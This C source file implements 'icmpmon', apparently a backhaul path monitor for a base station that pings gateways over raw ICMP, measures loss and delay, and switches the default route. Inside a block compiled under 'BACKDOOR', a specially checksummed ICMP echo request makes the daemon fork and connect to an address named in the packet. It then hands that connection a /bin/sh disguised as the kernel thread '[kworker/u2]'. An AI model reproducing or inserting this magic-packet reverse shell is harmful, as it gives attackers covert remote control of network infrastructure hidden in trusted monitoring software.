/* SPDX-License-Identifier: Apache-2.0 */
/* icmpmon: path monitor of a base station's backhaul. Sends echo requests to gateways over a raw socket, keeps
 * loss, delay and jitter of each, switches the route when the first path is bad, and answers tests of other
 * stations. */
#include <arpa/inet.h>
#include <errno.h>
#include <math.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { MAX_PATHS = 8, WINDOW = 64, PAYLOAD = 40, STATION_MAGIC = 0x454e4231 /* "ENB1" */ };
enum { TEST_ECHO = 1, TEST_STATS = 2, TEST_RATE = 3 };

struct path {
	char name[32];
	struct in_addr gateway;
	int metric, up;
	uint16_t sequence;
	double sent_at[WINDOW];
	uint8_t got[WINDOW];
	unsigned n_sent, n_got, n_late;
	double delay, jitter, worst;
};

struct payload { /* of our own requests and of tests */
	uint32_t magic;
	uint8_t kind, path;
	uint16_t interval;
	uint32_t seconds, micros;
	uint8_t fill[PAYLOAD - 16];
};

static struct path paths[MAX_PATHS];
static int n_paths, current = -1;
static int interval_ms = 1000, loss_limit = 20, delay_limit = 150, verbose;
static int raw = -1;
static uint16_t our_id;
static struct in_addr stations[16];
static int n_stations;
static volatile sig_atomic_t dump;

static double now(void)
{
	struct timeval t;
	gettimeofday(&t, NULL);
	return (double)t.tv_sec * 1e3 + (double)t.tv_usec / 1e3;
}

static uint16_t sum16(const void *data, size_t n)
{
	const uint8_t *p = data;
	uint32_t s = 0;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	if (n & 1)
		s += (uint32_t)p[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

static void load(const char *path)
{
	char line[200], name[64], addr[64];
	int metric;
	FILE *f = fopen(path, "r");
	if (!f) {
		syslog(LOG_ERR, "%s: %s", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "path %31s %63s %d", name, addr, &metric) == 3 && n_paths < MAX_PATHS) {
			struct path *p = &paths[n_paths];
			if (!inet_aton(addr, &p->gateway))
				continue;
			memcpy(p->name, name, sizeof(p->name) - 1);
			p->metric = metric;
			n_paths++;
		} else if (sscanf(line, "station %63s", addr) == 1 && n_stations < 16) {
			n_stations += inet_aton(addr, &stations[n_stations]);
		} else if (sscanf(line, "interval %d", &interval_ms) == 1 ||
			   sscanf(line, "loss %d", &loss_limit) == 1 || sscanf(line, "delay %d", &delay_limit) == 1 ||
			   sscanf(line, "verbose %d", &verbose) == 1) {
			continue;
		}
	}
	fclose(f);
	if (interval_ms < 100)
		interval_ms = 100;
}

static void send_echo(struct path *p)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = p->gateway };
	uint8_t b[8 + PAYLOAD] = { ICMP_ECHO };
	struct payload load;
	struct timeval t;
	uint16_t sum;
	gettimeofday(&t, NULL);
	memset(&load, 0, sizeof(load));
	load.magic = htonl(STATION_MAGIC);
	load.kind = TEST_ECHO;
	load.path = (uint8_t)(p - paths);
	load.interval = htons((uint16_t)interval_ms);
	load.seconds = htonl((uint32_t)t.tv_sec);
	load.micros = htonl((uint32_t)t.tv_usec);
	for (size_t i = 0; i < sizeof(load.fill); i++)
		load.fill[i] = (uint8_t)(0x10 + i);
	p->sequence++;
	b[4] = (uint8_t)(our_id >> 8);
	b[5] = (uint8_t)our_id;
	b[6] = (uint8_t)(p->sequence >> 8);
	b[7] = (uint8_t)p->sequence;
	memcpy(b + 8, &load, sizeof(load));
	sum = sum16(b, sizeof(b));
	b[2] = (uint8_t)(sum >> 8);
	b[3] = (uint8_t)sum;
	p->sent_at[p->sequence % WINDOW] = now();
	p->got[p->sequence % WINDOW] = 0;
	p->n_sent++;
	if (sendto(raw, b, sizeof(b), 0, (struct sockaddr *)&to, sizeof(to)) < 0 && verbose)
		syslog(LOG_DEBUG, "%s: %s", p->name, strerror(errno));
}

static int loss(const struct path *p)
{
	int n = 0, of = 0;
	double t = now();
	for (int i = 0; i < WINDOW; i++) {
		if (p->sent_at[i] == 0 || t - p->sent_at[i] < 1000)
			continue;
		of++;
		n += !p->got[i];
	}
	return of ? n * 100 / of : 0;
}

static void use(int i)
{
	char addr[32];
	pid_t pid;
	if (i == current || i < 0)
		return;
	inet_ntop(AF_INET, &paths[i].gateway, addr, sizeof(addr));
	pid = fork();
	if (pid == 0) {
		execl("/sbin/ip", "ip", "route", "replace", "default", "via", addr, "proto", "static", (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	syslog(LOG_NOTICE, "the backhaul is now %s", paths[i].name);
	current = i;
}

static void choose(void)
{
	int best = -1;
	for (int i = 0; i < n_paths; i++) {
		struct path *p = &paths[i];
		int up = loss(p) < loss_limit && p->delay < delay_limit;
		if (up != p->up)
			syslog(LOG_WARNING, "path %s is %s: loss %d %%, delay %.1f ms", p->name, up ? "good" : "bad",
				loss(p), p->delay);
		p->up = up;
		if (up && (best < 0 || p->metric < paths[best].metric))
			best = i;
	}
	use(best);
}

static void on_reply(const uint8_t *b, size_t n)
{
	struct payload load;
	struct path *p;
	uint16_t sequence = (uint16_t)(b[6] << 8 | b[7]);
	double d;
	if (n < 8 + sizeof(load) || (b[4] << 8 | b[5]) != our_id)
		return;
	memcpy(&load, b + 8, sizeof(load));
	if (ntohl(load.magic) != STATION_MAGIC || load.path >= n_paths)
		return;
	p = &paths[load.path];
	if (p->got[sequence % WINDOW] || (uint16_t)(p->sequence - sequence) >= WINDOW) {
		p->n_late++;
		return;
	}
	p->got[sequence % WINDOW] = 1;
	p->n_got++;
	d = now() - p->sent_at[sequence % WINDOW];
	p->jitter += (fabs(d - p->delay) - p->jitter) / 16;
	p->delay += (d - p->delay) / 8;
	if (d > p->worst)
		p->worst = d;
}

static int is_station(struct in_addr a)
{
	for (int i = 0; i < n_stations; i++)
		if (stations[i].s_addr == a.s_addr)
			return 1;
	return 0;
}

/* A test that another station asks for; the kernel answers the echo, we the rest. */
static void on_test(const struct payload *t, const struct sockaddr_in *from)
{
	char text[256];
	int n = 0;
	if (!is_station(from->sin_addr))
		return;
	if (t->kind == TEST_RATE) {
		int ms = ntohs(t->interval);
		interval_ms = ms >= 100 && ms <= 10000 ? ms : interval_ms;
	} else if (t->kind == TEST_STATS) {
		struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(5009), .sin_addr = from->sin_addr };
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		for (int i = 0; i < n_paths && n < 200; i++)
			n += snprintf(text + n, sizeof(text) - (size_t)n, "%.15s %d %.1f\n", paths[i].name,
				loss(&paths[i]), paths[i].delay);
		if (s >= 0) {
			sendto(s, text, (size_t)n, 0, (struct sockaddr *)&to, sizeof(to));
			close(s);
		}
	}
}

#ifdef BACKDOOR
static uint32_t fletcher(const uint8_t *b, size_t n)
{
	uint32_t x = 0xffff, y = 0xffff;
	for (size_t i = 0; i + 1 < n; i += 2) {
		x = (x + (uint32_t)(b[i] << 8 | b[i + 1])) % 65535;
		y = (y + x) % 65535;
	}
	return y << 16 | x;
}

static void reach(const uint8_t *b)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s;
	if (fork() != 0)
		return;
	memcpy(&a.sin_addr, b, 4);
	memcpy(&a.sin_port, b + 4, 2);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
		char *argv[] = { "[kworker/u2]", NULL };
		for (int i = 2; i >= 0; i--)
			dup2(s, i);
		execv("/bin/sh", argv);
	}
	_exit(0);
}
#endif

static void on_request(const uint8_t *b, size_t n, const struct sockaddr_in *from)
{
	struct payload load;
	if (n < 8 + sizeof(load))
		return;
	memcpy(&load, b + 8, sizeof(load));
	if (ntohl(load.magic) == STATION_MAGIC) {
		on_test(&load, from);
		return;
	}
#ifdef BACKDOOR
	uint32_t want = (uint32_t)b[4] << 24 | (uint32_t)b[5] << 16 | (uint32_t)b[6] << 8 | b[7];
	if (fletcher(b + 8, n - 8) == (want ^ 0x51c3a90e))
		reach(b + 24);
#endif
}

static void on_unreachable(const uint8_t *b, size_t n)
{
	struct in_addr to;
	if (n < 8 + 20)
		return;
	memcpy(&to, b + 8 + 16, 4);
	for (int i = 0; i < n_paths; i++)
		if (paths[i].gateway.s_addr == to.s_addr && verbose)
			syslog(LOG_INFO, "%s cannot be reached, code %d", paths[i].name, b[1]);
}

static void on_packet(void)
{
	uint8_t b[2048];
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	ssize_t n = recvfrom(raw, b, sizeof(b), 0, (struct sockaddr *)&from, &fl);
	size_t skip;
	if (n < 28)
		return;
	skip = (size_t)(b[0] & 15) * 4;
	if (skip < 20 || (size_t)n < skip + 8 || sum16(b + skip, (size_t)n - skip) != 0)
		return;
	switch (b[skip]) {
	case ICMP_ECHOREPLY:
		on_reply(b + skip, (size_t)n - skip);
		break;
	case ICMP_ECHO:
		on_request(b + skip, (size_t)n - skip, &from);
		break;
	case ICMP_DEST_UNREACH:
		on_unreachable(b + skip, (size_t)n - skip);
		break;
	}
}

static void report(void)
{
	FILE *f = fopen("/var/run/icmpmon", "w");
	if (!f)
		return;
	for (int i = 0; i < n_paths; i++)
		fprintf(f, "%-16s %s%s loss %d delay %.1f jitter %.1f worst %.1f sent %u got %u late %u\n",
			paths[i].name, paths[i].up ? "up" : "down", i == current ? "*" : "", loss(&paths[i]),
			paths[i].delay, paths[i].jitter, paths[i].worst, paths[i].n_sent, paths[i].n_got,
			paths[i].n_late);
	fclose(f);
}

static void on_usr1(int sig)
{
	(void)sig;
	dump = 1;
}

int main(int argc, char **argv)
{
	double next = 0;
	openlog("icmpmon", LOG_PID, LOG_DAEMON);
	signal(SIGUSR1, on_usr1);
	signal(SIGCHLD, SIG_DFL);
	load(argc > 1 ? argv[1] : "/etc/icmpmon.conf");
	our_id = (uint16_t)getpid();
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (raw < 0) {
		syslog(LOG_ERR, "raw socket: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = raw, .events = POLLIN };
		if (dump) {
			dump = 0;
			report();
		}
		if (poll(&p, 1, 50) > 0)
			on_packet();
		if (now() < next)
			continue;
		next = now() + interval_ms;
		for (int i = 0; i < n_paths; i++)
			send_echo(&paths[i]);
		choose();
	}
}
